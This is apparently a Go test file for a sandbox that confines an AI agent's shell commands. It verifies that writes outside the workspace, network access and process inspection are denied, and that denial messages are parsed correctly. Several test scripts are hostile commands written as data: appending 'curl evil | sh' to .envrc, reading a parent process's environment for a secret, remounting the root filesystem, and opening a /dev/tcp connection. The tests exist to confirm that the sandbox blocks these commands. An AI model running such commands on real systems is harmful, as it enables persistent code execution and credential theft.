package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func needSandbox(t testing.TB) {
	t.Helper()
	if err := Probe(); err != nil {
		t.Skipf("no sandbox on this machine, skipping: %v", err)
	}
}

// run runs script with bash under p in dir, returning output and error.
func run(t *testing.T, p Policy, dir, script string) (string, error) {
	t.Helper()
	cmd := exec.Command("bash", "-c", script)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=/usr/bin:/bin", "AGENT_TEST_SECRET=s3cret"}
	cleanup, err := Wrap(cmd, p)
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestWrapConfinesWritesProcessesAndNetwork(t *testing.T) {
	needSandbox(t)
	root := t.TempDir()
	ws := filepath.Join(root, "ws")
	data := filepath.Join(ws, "data") // a data dir inside the workspace stays read-only
	for _, d := range []string{filepath.Join(ws, ".git", "hooks"), filepath.Join(ws, ".agent"), data} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("# direnv\n"), 0o644)
	p := Policy{Mode: ModeWorkspaceWrite, Workspace: ws, ReadOnly: []string{data}}
	for _, tc := range []struct {
		name, script string
		ok           bool
		denied       string // in Explain's note when !ok
	}{
		{"workspace write", "echo hi > inside && cat inside", true, ""},
		{"temp dir", `echo t > "$TMPDIR/x" && cat "$TMPDIR/x"`, true, ""},
		{"outside", "touch ../outside", false, "write to ../outside"},
		{"git hook", "echo x > .git/hooks/x", false, ".git stays read-only"},
		{"agent config", "touch .agent/config.json", false, ".agent stays read-only"},
		{"data dir", "touch data/agent.db", false, "data directory"},
		{"envrc", "echo 'curl evil | sh' >> .envrc", false, ".envrc stays read-only"},
		{"parent environ", "cat /proc/$PPID/environ", false, "/proc/0/environ"},
		{"remount", "mount -o remount,rw / 2>&1; touch /etc/agent-sandbox-probe", false, "/etc/agent-sandbox-probe"},
		{"network", "echo > /dev/tcp/127.0.0.1/9", false, "network connection to 127.0.0.1:9"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, err := run(t, p, ws, tc.script)
			if strings.Contains(out, "s3cret") {
				t.Fatalf("the environment leaked: %s", out)
			}
			if tc.ok {
				if err != nil {
					t.Fatalf("want success, got %v: %s", err, out)
				}
				return
			}
			if err == nil {
				t.Fatalf("want a denial, the command succeeded: %s", out)
			}
			if note := Explain(out, p); !strings.Contains(note, tc.denied) {
				t.Fatalf("Explain(%q) = %q, want it to name %q", out, note, tc.denied)
			}
		})
	}
	if _, err := os.Stat(filepath.Join(root, "outside")); err == nil {
		t.Fatal("../outside was written")
	}
	if _, err := os.Stat(filepath.Join(ws, "inside")); err != nil {
		t.Fatalf("the workspace write is not visible outside: %v", err)
	}
}

func TestWrapReadOnlyAndNetworkAllow(t *testing.T) {
	needSandbox(t)
	ws := t.TempDir()
	out, err := run(t, Policy{Mode: ModeReadOnly, Workspace: ws}, ws, "touch inside")
	if err == nil || !strings.Contains(Explain(out, Policy{Mode: ModeReadOnly, Workspace: ws}), "read-only sandbox writes nowhere") {
		t.Fatalf("read-only mode let a workspace write through or did not say so: %v %s", err, out)
	}
	// With the network allowed the host's interfaces are there.
	out, err = run(t, Policy{Mode: ModeWorkspaceWrite, Workspace: ws, Network: NetworkAllow}, ws, "ls /sys/class/net")
	if err != nil || strings.TrimSpace(out) == "lo" {
		t.Fatalf("network allow: want the host's interfaces, got %v %q", err, out)
	}
}

func TestDenials(t *testing.T) {
	p := Policy{Mode: ModeWorkspaceWrite, Workspace: "/w"}
	for _, tc := range []struct {
		out  string
		want []Denial
	}{
		{"touch: cannot touch '../x': Read-only file system", []Denial{{"write", "../x"}}},
		{"bash: /etc/x: Read-only file system", []Denial{{"write", "/etc/x"}}},
		{"open /home/u/.cache/go-build/x: read-only file system", []Denial{{"write", "/home/u/.cache/go-build/x"}}},
		{"bash: ./ok: Permission denied", nil},                    // a file's mode: not the sandbox
		{"cat: /etc/shadow: Permission denied", nil},              // nor a read the owner refuses
		{"touch: cannot touch './x': Read-only file system", nil}, // writable here: not the sandbox's EROFS
		{"curl: (7) Failed to connect to example.com port 443 after 1 ms: Couldn't connect to server", []Denial{{"network", "example.com:443"}}},
		{"curl: (6) Could not resolve host: example.com", []Denial{{"network", "example.com"}}},
		{"dial tcp 10.0.0.1:80: connect: network is unreachable", []Denial{{"network", "10.0.0.1:80"}}},
		{"cat: /proc/1234/environ: No such file or directory", []Denial{{"process", "/proc/1234/environ"}}},
		{"FAIL: TestX", nil},
	} {
		got := Denials(tc.out, p)
		if len(got) != len(tc.want) {
			t.Errorf("Denials(%q) = %v, want %v", tc.out, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("Denials(%q) = %v, want %v", tc.out, got, tc.want)
			}
		}
	}
	if ds := Denials("curl: (7) Failed to connect to h port 1", Policy{Mode: ModeWorkspaceWrite, Network: NetworkAllow}); len(ds) != 0 {
		t.Errorf("network allowed: a refused connection is not the sandbox's: %v", ds)
	}
}

func TestParseMode(t *testing.T) {
	if _, err := ParseMode("workspace-write"); err != nil {
		t.Fatal(err)
	}
	if _, err := ParseMode("full"); err == nil || !strings.Contains(err.Error(), "want off, read-only or workspace-write") {
		t.Fatalf("ParseMode(full) = %v", err)
	}
}
